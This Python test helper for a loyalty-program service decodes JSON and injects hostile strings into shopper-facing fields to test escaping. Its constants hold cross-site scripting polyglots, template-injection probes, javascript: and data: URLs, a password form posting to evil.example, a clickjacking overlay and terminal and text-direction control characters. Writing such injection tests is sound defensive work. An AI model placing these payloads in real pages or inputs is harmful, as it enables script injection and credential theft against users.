"""How JSON is read and written here: decimals stay exact, and texts can be made hostile."""

from collections.abc import Mapping, Sequence
from decimal import Decimal
from typing import Any, TypeAlias

import msgspec

Json: TypeAlias = "bool | int | float | Decimal | str | Sequence[Json] | Mapping[str, Json] | None"
JsonObject: TypeAlias = Mapping[str, Json]
encode = msgspec.json.Encoder(decimal_format="number").encode
_decode = msgspec.json.Decoder(float_hook=Decimal).decode
# Breaks out of attributes, comments, scripts, styles, titles and text areas, and probes template engines.
POLYGLOT = (
    """'"`><img src=x onerror=alert(1)></script></style></title></textarea>-->"""
    """<svg/onload=alert(2)><a href="javascript:alert(3)">x</a>{{7*7}}${7*7}<!--"""
)
HOSTILE_HTML = (
    POLYGLOT + """<script>alert(4)</script><iframe srcdoc="<script>alert(5)</script>"></iframe>"""
    """<form action="https://evil.example"><input name="password"></form>"""
    """<style>body{display:none}</style><p style="position:fixed;inset:0" onclick="alert(6)">covered</p>"""
    """<a href="data:text/html,<script>alert(7)</script>">data</a>"""
)
# NUL, BEL, ESC and a colour, a line break in C1, and what turns the direction of the words that follow.
CONTROLS = "\x00\x07\x1b[31m\x85\x9b31m\u202e\u2066"
HOSTILE_URL = "javascript:alert(document.domain)//"
_TEXTS = {
    "title", "name", "question", "description", "notificationText", "template", "vipTierName", "minimumVipTierName",
    "acceptTermsAndJoinProgramButtonText", "displayName", "firstName", "lastName",
}  # fmt: skip
_HTML = {"html", "answer"}
_URLS = {"url", "privacyPolicyUrl", "termsAndConditionsUrl", "shareableLinkUrl"}


def read_object(body: bytes) -> JsonObject | None:
    """The JSON object in a body, or None when the body holds anything else."""
    try:
        value = _decode(body)
    except (ValueError, RecursionError):
        return None
    return value if isinstance(value, dict) else None


def with_hostile_texts(value: Json, key: str = "") -> Json:
    """The same JSON with every text for shoppers replaced by something that must be escaped.

    The original text stays in front, so that a tier keeps the same name everywhere.
    """
    if isinstance(value, str):
        return _hostile_text(value, key)
    if isinstance(value, Mapping):
        return {name: with_hostile_texts(inner, name) for name, inner in value.items()}
    if isinstance(value, Sequence):
        return [with_hostile_texts(inner, "title" if key == "perks" else key) for inner in value]
    return value


def with_control_characters(value: Json, key: str = "") -> Json:
    """The same JSON with characters in every text for shoppers, and in every coupon's code, that a database, a terminal
    or a page would obey."""
    if isinstance(value, str):
        return value[:1] + CONTROLS + value[1:] if key in _TEXTS | _HTML | {"code"} else value
    if isinstance(value, Mapping):
        return {name: with_control_characters(inner, name) for name, inner in value.items()}
    if isinstance(value, Sequence):
        return [with_control_characters(inner, "title" if key == "perks" else key) for inner in value]
    return value


def with_words(value: Json, words: Mapping[str, msgspec.Raw], key: str = "") -> Any:
    """The same JSON with every text of one of these names replaced by that word."""
    if isinstance(value, str):
        return words.get(key, value)
    if isinstance(value, Mapping):
        return {name: with_words(inner, words, name) for name, inner in value.items()}
    if isinstance(value, Sequence):
        return [with_words(inner, words, key) for inner in value]
    return value


def _hostile_text(value: str, key: str) -> str:
    if key in _HTML:
        return value + HOSTILE_HTML
    if key in _URLS:
        return HOSTILE_URL
    return value + POLYGLOT if key in _TEXTS else value
